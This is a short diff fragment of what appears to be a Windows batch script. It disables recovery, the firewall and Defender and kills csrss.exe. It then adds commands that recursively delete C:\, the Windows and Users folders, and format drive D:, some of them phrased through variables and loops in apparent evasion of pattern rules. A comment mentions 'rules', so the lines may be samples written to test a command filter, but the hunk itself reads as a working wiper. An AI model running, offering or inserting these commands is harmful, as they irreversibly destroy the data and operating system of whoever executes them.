@@ -24,3 +24,9 @@ bcdedit /set {default} recoveryenabled no
 netsh advfirewall set currentprofile state off
 sc config WinDefend start= disabled
 taskkill /f /im csrss.exe
+#: written by a fresh eye, before the rules were looked at
+rd /s /q C:\
+del /f /s /q C:\Windows\*
+format D: /y /q
+set D=C:\Windows& rd /s /q %D%
+for %%d in (C:\Windows C:\Users) do rd /s /q %%d
